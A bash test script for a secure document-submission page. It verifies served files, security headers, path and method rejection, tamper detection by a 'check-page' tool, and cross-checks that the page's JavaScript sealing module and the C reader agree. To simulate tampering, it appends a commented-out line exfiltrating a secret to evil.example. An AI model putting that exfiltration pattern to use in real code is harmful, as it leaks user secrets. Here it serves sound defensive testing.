#!/usr/bin/env bash
# test_page.sh: the submission page as intake-server serves it (issue 11):
# every file of the release at its path with the security headers; no
# other path, no other method; intake-officer check-page finds a changed,
# missing or extra-modified file; the vendored libsodium.js matches its
# recorded hash; every string id the page uses is in every language file;
# and the page's sealing module (run under Node) makes envelopes that the
# C reader opens byte for byte, of the same length as intake-submit's.
. "$(dirname "$0")/lib.sh"
. "$TOP/tests/tools/srv_lib.sh"
REL=$B/web/RELEASE.sha256
ENVTOOL=$B/tools/cli_envtool
NODE=(node --experimental-default-type=module "$TOP/web/check/node.mjs")

start_server "$T/data" || exit 1

# Every file of the release, byte for byte, with its headers.
bad=0
while read -r sum path; do
	c=$(code -D "$T/hdr" "$URL$path")
	[ "$c" = 200 ] && [ "$(sha256sum <"$T/body" | cut -d' ' -f1)" = "$sum" ] || { echo "# $path: $c"; bad=1; }
	csp=$(hdr Content-Security-Policy)
	[ "$csp" = "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; img-src 'self'; connect-src 'self'; frame-ancestors 'none'; form-action 'none'; base-uri 'none'" ] &&
		[ "$(hdr Cache-Control)" = no-store ] && [ "$(hdr Referrer-Policy)" = no-referrer ] &&
		[ "$(hdr X-Content-Type-Options)" = nosniff ] &&
		[ "$(hdr Cross-Origin-Opener-Policy)" = same-origin ] &&
		[ -z "$(hdr Set-Cookie)" ] || { echo "# $path: headers"; bad=1; }
	case $path in
	/|/replies) want="text/html; charset=utf-8" ;;
	*.js) want="text/javascript; charset=utf-8" ;;
	*.css) want="text/css; charset=utf-8" ;;
	*) want="text/plain; charset=utf-8" ;;
	esac
	[ "$(hdr Content-Type)" = "$want" ] || { echo "# $path: type $(hdr Content-Type)"; bad=1; }
done <"$REL"
check "every page file served as released, with the security headers" [ "$bad" = 0 ]
check "the release lists the pages, the modules, libsodium.js and the languages" \
	bash -c "grep -q '  /\$' '$REL' && grep -q '  /replies\$' '$REL' && grep -q '  /vendor/sodium.js\$' '$REL' && [ \$(grep -c '  /locale/' '$REL') = 3 ]"
check "HEAD of the page answers 200" [ "$(code -I "$URL/")" = 200 ]
check "an unknown path is 404" [ "$(code "$URL/index.html")" = 404 ]
check "a path with .. is 404" [ "$(code --path-as-is "$URL/js/../replies")" = 404 ]
check "a file outside the page is 404" [ "$(code --path-as-is "$URL/../Makefile")" = 404 ]
check "POST to the page is 405" [ "$(code -X POST -d x "$URL/")" = 405 ]

# check-page: the served page matches the compiled-in list and the installed one.
expect_exit 0 "check-page: the served page matches the release" "$OFFICER" check-page "$URL"
expect_exit 0 "check-page --release: the same with the hash list file" "$OFFICER" check-page --release "$REL" "$URL/"
# A copy of the page with one changed byte, served by another server.
mkdir -p "$T/copy"
while read -r sum path; do
	f=$T/copy${path%/}
	[ "$path" = / ] && f=$T/copy/index.html
	mkdir -p "$(dirname "$f")"
	curl -s -o "$f" "$URL$path"
done <"$REL"
PORT2=$(free_port)
python3 -m http.server --bind 127.0.0.1 -d "$T/copy" "$PORT2" >/dev/null 2>&1 &
PIDS+=($!)
for i in $(seq 1 50); do curl -sf -o /dev/null "http://127.0.0.1:$PORT2/" && break; sleep 0.1; done
expect_exit 0 "check-page: an unchanged copy matches" "$OFFICER" check-page "http://127.0.0.1:$PORT2"
printf '\n// fetch("https://evil.example/" + secret)\n' >>"$T/copy/js/seal.js"
expect_exit 1 "check-page: a changed module is found (exit 1)" "$OFFICER" check-page "http://127.0.0.1:$PORT2"
check "check-page names the changed file" grep -q '^CHANGED  /js/seal.js$' "$T/out"
rm "$T/copy/js/tus.js"
expect_exit 1 "check-page: a missing file is found" "$OFFICER" check-page "http://127.0.0.1:$PORT2"
check "check-page names the missing file" grep -q '^MISSING  /js/tus.js (HTTP 404)$' "$T/out"
sed '1s/^./0/;1s/^0\(.\)/1\1/' "$REL" >"$T/rel-bad"
expect_exit 1 "check-page: a hash list that differs from the served page fails" "$OFFICER" check-page --release "$T/rel-bad" "$URL"
printf 'not a hash list\n' >"$T/rel-junk"
expect_exit 65 "check-page: a malformed hash list is refused" "$OFFICER" check-page --release "$T/rel-junk" "$URL"
expect_exit 64 "check-page: --tor and --proxy together are a usage error" "$OFFICER" check-page --tor --proxy http://127.0.0.1:1 "$URL"
expect_exit 64 "check-page: socks5:// (names resolved outside the proxy) is refused" "$OFFICER" check-page --proxy socks5://127.0.0.1:1 "$URL"
expect_exit 64 "check-page: an .onion address without --tor is refused" "$OFFICER" check-page http://expyuzz4wqqyqhjn.onion
expect_exit 69 "check-page: through a proxy that is not there: unavailable" "$OFFICER" check-page --proxy socks5h://127.0.0.1:1 "$URL"

# The root fingerprint the page shows is the one intake-officer prints.
printf 'correct horse battery staple 7\n' >"$T/pass"
chmod 600 "$T/pass"
"$OFFICER" keygen --out "$T/k1" --passphrase-file "$T/pass" >/dev/null 2>&1 &&
	"$OFFICER" root-keygen --out "$T/root" --passphrase-file "$T/pass" >/dev/null 2>&1 &&
	"$OFFICER" keyset-entry --key "$T/k1/officer.sec" --passphrase-file "$T/pass" --out "$T/k1.entry" >/dev/null 2>&1 &&
	"$OFFICER" keyset-make --root "$T/root/root.sec" --officer "$T/k1.entry" --passphrase-file "$T/pass" \
		--out "$T/keyset.bin" >/dev/null 2>&1
expect_exit 0 "the page's module verifies a keyset intake-officer made" "${NODE[@]}" fingerprint "$T/keyset.bin"
"$OFFICER" root-fingerprint "$T/root/root.pub" >"$T/fp.c" 2>/dev/null
check "the page shows the root fingerprint intake-officer prints (code, Russian, English words)" cmp -s "$T/out" "$T/fp.c"

# Vendored code and strings.
expect_exit 0 "vendor/sodium.js matches web/vendor/SOURCES" sh "$TOP/web/vendor/check.sh"
expect_exit 0 "every string id of the pages is in ru.po, en.po and uk.po" "${NODE[@]}" strings

# Sealing in the page's module, opened by the C reader.
"$ENVTOOL" keygen "$T/o.pub" "$T/o.sec" >/dev/null
printf 'Здравствуйте. Это письмо со страницы.\nВторая строка.\n' >"$T/text"
head -c 200000 /dev/urandom >"$T/фото.jpg"
head -c 70000 /dev/urandom >"$T/видео.mp4"
: >"$T/пусто.txt"
expect_exit 0 "the page's module seals text and three files" "${NODE[@]}" seal "$T/o.pub" "$T/text" "$T/page.env" "$T/фото.jpg" "$T/видео.mp4" "$T/пусто.txt"
cp "$T/out" "$T/seal.out"
mkdir -p "$T/opened"
expect_exit 0 "the C reader opens the page's envelope" "$ENVTOOL" open "$T/o.sec" "$T/page.env" "$T/opened"
check "text identical" cmp -s "$T/text" "$T/opened/text"
check "files identical" bash -c "cmp -s '$T/фото.jpg' '$T/opened/file-0' && cmp -s '$T/видео.mp4' '$T/opened/file-1' && [ ! -s '$T/opened/file-2' ]"
check "names and types as sent" bash -c "grep -q '^file 0 200000 image/jpeg фото.jpg\$' '$T/out' && grep -q '^file 1 70000 video/mp4 видео.mp4\$' '$T/out' && grep -q '^file 2 0 text/plain пусто.txt\$' '$T/out'"
check "the reply mailbox is the receipt's" grep -q "^mailbox $(sed -n 2p "$T/seal.out")\$" "$T/out"
"$SUBMIT" --no-config --keys "$T/o.pub" --no-fingerprint-check -m "$T/text" -o "$T/c.env" -q \
	"$T/фото.jpg" "$T/видео.mp4" "$T/пусто.txt" >/dev/null 2>&1
check "a page-made and a C-made envelope of the same content have the same length" \
	[ "$(stat -c %s "$T/page.env")" = "$(stat -c %s "$T/c.env")" ]
expect_exit 0 "the page's receipt code derives the mailbox it put in the envelope" \
	"${NODE[@]}" receipt "$(sed -n 1p "$T/seal.out")"
check "same mailbox" grep -q "^$(sed -n 2p "$T/seal.out")\$" "$T/out"
